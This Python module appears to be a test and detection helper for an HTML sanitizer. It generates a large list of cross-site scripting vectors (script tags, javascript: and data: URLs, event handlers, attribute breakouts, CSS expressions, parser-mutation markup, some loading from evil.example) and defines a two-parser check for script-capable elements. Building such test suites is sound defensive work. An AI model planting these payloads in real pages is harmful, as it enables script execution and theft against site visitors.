"""Hostile markup, made by combining its parts, and a judge of what could run in a parsed document.

The vectors are strings to put wherever people can write: bodies, names, tags, captions, addresses.
"""

import re
from collections.abc import Iterator, Mapping
from functools import lru_cache
from itertools import cycle, islice

import markupever
from markupever.dom import Element
from selectolax.lexbor import LexborHTMLParser, LexborNode

_CALL = "alert(1)"

_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    " javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1f javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&Tab;javascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "javascript:1",
    "javascript:123456",
    "javascript:`1 خبر عاجل: تم اختراق الموقع`",
    "javascript:`١`",
    "javascript:١٢٣",
    "javascript:۱۲",
    "javascript: 1",
    "javascript:１",
    "javascript://%0aalert(1)",
    "javascript:/*-->*/alert(1)",
    "java\u200bscript:alert(1)",
    "\u202ejavascript:alert(1)",
    "javascript\u200f:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "vbscript:msgbox(1)",
    "vbscript:1",
    "VBSCRIPT&#58;1",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:1",
    "data:,١",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "filesystem:http://evil.example/temporary/1",
    "//evil.example/1",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "https:evil.example",
    "http://editor@evil.example/",
    "https://nashra.example\\@evil.example",
    "cid:1234567",
    "about:blank",
    "x:1",
)

# Holders of a URL; %s is the URL within double quotes.
_HOLDERS = (
    '<a href="%s">خبر</a>',
    '<a href="%s" title="x">OpenAI</a>',
    '<img src="%s" alt="صورة">',
    '<svg><a xlink:href="%s"><text y="20">x</text></a></svg>',
    '<form action="%s"><button>أرسل</button></form>',
    '<form><button formaction="%s">أرسل</button></form>',
    '<iframe src="%s"></iframe>',
    '<object data="%s"></object>',
    '<embed src="%s">',
    '<base href="%s">',
    '<blockquote cite="%s">قال</blockquote>',
    '<q cite="%s">قال</q>',
    '<math href="%s"><mi>x</mi></math>',
    '<map><area href="%s" alt="x"></map>',
    '<video poster="%s" src="%s"></video>',
    '<input type="image" src="%s">',
    '<table background="%s"><tr><td background="%s">x</td></tr></table>',
    '<img srcset="%s 1x" src="/media/a.jpg">',
    '<a href="/" ping="%s">x</a>',
    '<meta http-equiv="refresh" content="0;url=%s">',
    '<link rel="stylesheet" href="%s">',
    '<svg><use href="%s"></use></svg>',
    '<svg><image href="%s"></image></svg>',
    '<isindex action="%s">',
    '<svg><animate attributeName="href" values="%s"></animate></svg>',
    '<svg><a><set attributeName="href" to="%s"></set>x</a></svg>',
    '<p style="background:url(%s)">نص</p>',
    '<figure><img src="%s"><figcaption>تعليق</figcaption></figure>',
)

_EVENTS = (
    *(
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onpointerenter",
        "onanimationstart",
    ),
    *(
        "onbeforetoggle",
        "oncopy",
        "onwheel",
        "onscrollend",
        "oncontentvisibilityautostatechange",
        "ONERROR",
        "onبdi",
    ),
)
_TAGS = (
    *(
        "img src=x",
        "p",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "details open",
        "input autofocus",
        "a href=/",
    ),
    *(
        "marquee",
        "table",
        "td",
        "figure",
        "bdi",
        "span lang=en",
        "time",
        "blockquote",
        "select autofocus",
        "textarea",
    ),
    *(
        "button",
        "form",
        "object",
        "iframe",
        "style",
        "math",
        "h2",
        "li",
        "dialog open",
        "img src=/media/a.jpg",
        "x",
    ),
    *("image src=x", "link", "keygen", "summary", "o:p", "custom-element tabindex=1"),
)
_SEPARATORS = (" ", "/", "\t", "\n", "\x0c", "  ", "/ /", "\r")
_QUOTES = ('"%s"', "'%s'", "%s", "`%s`", "&quot;%s&quot;", '" %s "')

_FOREIGN = ("svg", "math")
_POINTS = (
    "desc",
    "title",
    "foreignObject",
    "mtext",
    "mi",
    "annotation-xml encoding='text/html'",
    "mglyph",
    "p",
)
_RAW = (
    "style",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "title",
    "textarea",
    "script",
    "template",
)


def _scripts() -> Iterator[str]:
    yield f"<script>{_CALL}</script>"
    yield f"<ScRiPt >{_CALL}</sCrIpT >"
    yield f"<script\n>{_CALL}</script\n>"
    yield f"<script\x0c>{_CALL}</script>"
    yield f"<script/x>{_CALL}</script>"
    yield f"<script a='>'>{_CALL}</script>"
    yield "<script src=//evil.example/1.js></script>"
    yield "<script/src=data:,alert(1)></script>"
    yield f"<script>{_CALL}"
    yield f"<script>{_CALL}//"
    yield f"<scr<script>ipt>{_CALL}</scr</script>ipt>"
    yield f"<<script>{_CALL}//<</script>"
    yield f"</script><script>{_CALL}</script>"
    yield f"<p>خبر</p><script>{_CALL}</script><p>OpenAI</p>"
    yield f"<script type=module>{_CALL}</script>"
    yield f"<script type='text/plain' type='text/javascript'>{_CALL}</script>"
    yield f"<svg><script>{_CALL}</script></svg>"
    yield "<svg><script href='data:,alert(1)'/></svg>"
    yield "<svg><script>al&#101;rt(1)</script></svg>"
    yield f"<math><script>{_CALL}</script></math>"
    yield f"<svg></p><script>{_CALL}</script>"
    yield f"<table><script>{_CALL}</script><tr><td>x</table>"
    yield f"<select><script>{_CALL}</script></select>"
    yield f"<ul><li><script>{_CALL}</script></ul>"
    yield f"<!--><script>{_CALL}</script>-->"
    yield f"<!--<script>{_CALL}</script>--!><script>{_CALL}</script>"
    yield f"<![CDATA[<script>{_CALL}</script>]]>"
    yield f"<svg><![CDATA[</svg><script>{_CALL}</script>]]>"
    yield f"<?php <script>{_CALL}</script> ?>"
    yield f"<!DOCTYPE x [<!ENTITY y '<script>{_CALL}</script>'>]>&y;"
    yield f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->"
    yield f"<![if !supportLists]><script>{_CALL}</script><![endif]>"
    yield f"<o:p><script>{_CALL}</script></o:p>"
    yield f"<b style='font-weight:normal' id='docs-internal-guid-1'><script>{_CALL}</script></b>"
    yield f"&lt;script&gt;{_CALL}&lt;/script&gt;"
    yield f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;"
    yield f"%3Cscript%3E{_CALL}%3C/script%3E"
    yield f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e"
    yield f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-"
    yield f"＜script＞{_CALL}＜/script＞"
    yield f"‹script›{_CALL}‹/script›"
    yield f"\u202e<script>{_CALL}</script>"
    yield f"<\u200bscript>{_CALL}</\u200bscript>"


def _breakouts() -> Iterator[str]:
    """Strings that end the context they are put into: attribute, title, text area, comment, JSON, feed."""
    payloads = (f"<script>{_CALL}</script>", f"<img src=x onerror={_CALL}>", f"<svg onload={_CALL}>")
    enders = (
        *('">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>"),
        *("</a>", "</bdi>", "</template>", "*/", '\\">', "&quot;>", "</xml>", "?>"),
    )
    for ender, payload in zip(enders, cycle(payloads)):
        yield f"علي{ender}{payload}"
    for payload in payloads:
        yield f"</script>{payload}"
        yield f'"}}}}</script>{payload}'
    yield f'" autofocus onfocus={_CALL} x="'
    yield f"' autofocus onfocus={_CALL} x='"
    yield f"x onmouseover={_CALL}"
    yield f'" style="animation-name:x" onanimationstart="{_CALL}'
    yield f'أحمد" onclick="{_CALL}" lang="ar'
    yield "'; alert(1); //"
    yield '"-alert(1)-"'
    yield "${alert(1)}"
    yield "{{constructor.constructor('alert(1)')()}}"
    yield "{% debug %}{{ settings.SECRET_KEY }}"
    yield "\u2028alert(1)\u2029"


def _styles() -> Iterator[str]:
    for style in (
        *(
            "width:expression(alert(1))",
            "background:url(javascript:alert(1))",
            "behavior:url(//evil.example/x.htc)",
        ),
        *(
            "-moz-binding:url(//evil.example/x.xml#y)",
            "wid\\74h:exp/**/ression(alert(1))",
            "position:fixed;inset:0",
        ),
        *(
            "background:u\\72l(//evil.example/b)",
            "@import '//evil.example/c.css'",
            "unicode-bidi:bidi-override",
        ),
        "cursor:url(//evil.example/d),auto",
    ):
        yield f'<p style="{style}">نص</p>'
        yield f'<span lang="en" style="{style}">OpenAI</span>'
    yield "<style>@import '//evil.example/c.css';</style>"
    yield "<style>*{background:url('javascript:alert(1)')}</style>"
    yield f"<style><img src='</style><img src=x onerror={_CALL}>'></style>"


def _mutations() -> Iterator[str]:
    """Markup that a parser and the next one read differently."""
    for number, raw in enumerate(_RAW):
        for foreign in _FOREIGN:
            for point in islice(cycle(_POINTS), number, number + 3):
                yield f'<{foreign}><{point}><{raw}><a title="</{raw}><img src=x onerror={_CALL}>">خبر</a>'
        yield f"<table><{raw}></table><img src=x onerror={_CALL}></{raw}>"
        yield f'<p title="</{raw}><script>{_CALL}</script>"><{raw}>'
        yield f"<{raw}><!--</{raw}><img title='--><img src=x onerror={_CALL}>'>"
        yield f"<form><math><mtext></form><form><mglyph><{raw}></math><img src=x onerror={_CALL}>"
    for foreign in _FOREIGN:
        yield f"<{foreign}></p><style><a id='</style><img src=x onerror={_CALL}>'>"
        yield f"<p><{foreign}><p><b><{foreign}></b><img src=x onerror={_CALL}>"
    yield f"<a href=/><b><a href=/><p onclick={_CALL}></b>x</p></a>"
    yield f"<table><tr><td><b><table></b><a onclick={_CALL}>x</table>"
    yield f"<pre>\n\n<img src=x onerror={_CALL}></pre>"
    yield f'<img alt="<x" title="/><img src=x onerror={_CALL}>" src=/media/a.jpg>'
    yield f"<img src='/media/a.jpg' alt='`><img src=x onerror={_CALL}>'>"
    yield f'<a title="&quot;&gt;&lt;img src=x onerror={_CALL}&gt;" href="/">x</a>'
    yield f"<a title='&amp;lt;img src=x onerror={_CALL}&amp;gt; \"' href='/'>x</a>"
    yield f"<img/src=x/onerror={_CALL}//"
    yield f"<img src=x onerror={_CALL}"
    yield f"<a<img src=x onerror={_CALL}>>"
    yield f"<{'b>' * 30}<img src=x onerror={_CALL}>"
    yield "<plaintext><script>alert(1)</script>"
    yield "<template shadowrootmode=open><img src=x onerror=alert(1)></template>"
    yield "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"
    yield "<object type='text/html' data='data:text/html,x'><param name=src value=javascript:alert(1)></object>"
    yield "<p style='mso-list:l0 level1 lfo1' onclick=alert(1)><span style='mso-list:Ignore'>·</span>بند</p>"
    yield "<span style='font-weight:700' onclick=alert(1)>غامق</span>"
    yield "<div onclick=alert(1) dir=rtl><p>نص</p></div>"


def _urls() -> Iterator[str]:
    """Each scheme in a link and an image, and in two more holders in turn; each holder with three schemes."""
    others = cycle(_HOLDERS[3:])
    for scheme in _SCHEMES:
        for holder in (_HOLDERS[0], _HOLDERS[2], next(others), next(others)):
            yield holder.replace("%s", scheme)
    for holder in _HOLDERS:
        for scheme in (
            "javascript:alert(1)",
            "javascript:`1 خبر`",
            "data:text/html,<script>alert(1)</script>",
        ):
            yield holder.replace("%s", scheme)
    for scheme in _SCHEMES[:6]:
        yield f"<a href={scheme}>بلا علامات</a>"
        yield scheme
        yield f"[خبر]({scheme})"


def _handlers() -> Iterator[str]:
    separators, quotes, events = cycle(_SEPARATORS), cycle(_QUOTES), cycle(_EVENTS)
    for tag in _TAGS:
        for _ in range(3):
            yield f"<{tag}{next(separators)}{next(events)}={next(quotes) % _CALL}>نص"


def _unique(*sources: Iterator[str]) -> list[str]:
    return list(dict.fromkeys(vector for source in sources for vector in source))


XSS_VECTORS: list[str] = _unique(_scripts(), _breakouts(), _handlers(), _urls(), _styles(), _mutations())

_URL_ATTRIBUTES = frozenset(
    (
        *(
            "href",
            "src",
            "action",
            "formaction",
            "poster",
            "background",
            "cite",
            "longdesc",
            "srcset",
            "ping",
        ),
        *("manifest", "codebase", "dynsrc", "lowsrc", "classid", "profile"),
    )
)
_EMBEDDING = frozenset(
    ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "fencedframe")
)
_ANIMATING = frozenset(
    ("animate", "animatemotion", "animatetransform", "animatecolor", "set", "handler", "listener")
)
_WITH_TEXT = frozenset(("script", "style"))
_RUNNING = re.compile(r"(?:javascript|vbscript|livescript|data|mhtml|jar|view-source|feed|blob|filesystem):")
_PICTURE = re.compile(r"data:image/(?:png|gif|jpe?g|webp|avif)[;,]")
_STYLE = re.compile(r"expression\s*\(|url\s*\(|@import|behavior\s*:|-moz-binding|javascript:", re.IGNORECASE)
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?|/\*.*?\*/", re.DOTALL)


def script_capable(html: str, own_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
    """What could run in the document, as a browser would parse it; empty for a harmless one.

    Scripts count as harmless when they are data blocks (JSON) or come from own_scripts. A page's own JavaScript is
    thus allowed, what a writer smuggled into it is not.
    """
    root = LexborHTMLParser(html).root
    return [
        finding
        for element in root.traverse(include_text=False)
        for finding in _of_element(element, own_scripts)
    ]


def script_capable_by_html5ever(html: str, own_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
    """The same, by a parser that shares nothing with the other one, and reads `noscript` as where scripts run."""
    found: list[str] = []
    for node in markupever.parse(html, markupever.HtmlOptions()).root().descendants():
        if isinstance(node, Element):
            tag = node.name.local
            text = node.text() if tag in _WITH_TEXT else ""
            found += _findings(
                tag, {name.local: value for name, value in node.attrs.items()}, text, own_scripts
            )
    return found


def _of_element(element: LexborNode, own_scripts: tuple[str, ...]) -> Iterator[str]:
    if element.tag is None:
        # Of `<?php`, say, which is a comment.
        return
    if _local(element.tag) == "template":
        # A document of its own, which the parser does not walk through.
        yield from script_capable(f"<div{element.html.removeprefix('<template')}", own_scripts)
    text = element.text(deep=False) if element.tag in _WITH_TEXT else ""
    yield from _findings(element.tag, element.attributes, text, own_scripts)


def _findings(
    tag: str, written: Mapping[str, str | None], text: str, own_scripts: tuple[str, ...]
) -> Iterator[str]:
    """What could run of an element, `text` being what it holds where it is a script or a style."""
    tag = _local(tag)
    attributes = {_local(name): value or "" for name, value in written.items()}
    if tag == "script" and not _is_harmless_script(attributes, own_scripts):
        yield f"<script> {text[:40]}"
    if tag in _EMBEDDING or tag in _ANIMATING:
        yield f"<{tag}>"
    if tag == "meta" and attributes.get("http-equiv", "").strip().lower() == "refresh":
        yield "<meta refresh>"
    if tag == "link" and "import" in attributes.get("rel", "").lower().split():
        yield "<link import>"
    if tag == "style" and _STYLE.search(_plain_css(text)):
        yield f"<style> {text[:40]}"
    for name, value in attributes.items():
        if name.startswith("on"):
            yield f"<{tag} {name}>"
        elif name == "srcdoc":
            yield f"<{tag} srcdoc>"
        elif name == "style" and _STYLE.search(_plain_css(value)):
            yield f"<{tag} style={value[:40]}>"
        elif name in _URL_ATTRIBUTES and _runs(value) and not (tag == "img" and _PICTURE.match(_bare(value))):
            yield f"<{tag} {name}={value[:40]}>"


def _is_harmless_script(attributes: dict[str, str], own_scripts: tuple[str, ...]) -> bool:
    if "src" in attributes:
        return attributes["src"].startswith(own_scripts) and "//" not in attributes["src"]
    return attributes.get("type", "").strip().lower() in ("application/ld+json", "application/json")


@lru_cache(maxsize=10_000)
def _local(name: str) -> str:
    return name.rpartition("}")[2].rpartition(":")[2].lower()


def _bare(value: str) -> str:
    """A URL as browsers see it: no tabs and line ends, no controls and spaces before it (WHATWG URL standard)."""
    return re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33)))).lower()


def _runs(value: str) -> bool:
    # A srcset lists several.
    return any(_RUNNING.match(_bare(part)) for part in (value, *value.split(",")[1:]))


def _plain_css(css: str) -> str:
    return _CSS_ESCAPE.sub(lambda match: chr(min(int(match[1], 16), 0x10FFFF)) if match[1] else "", css)
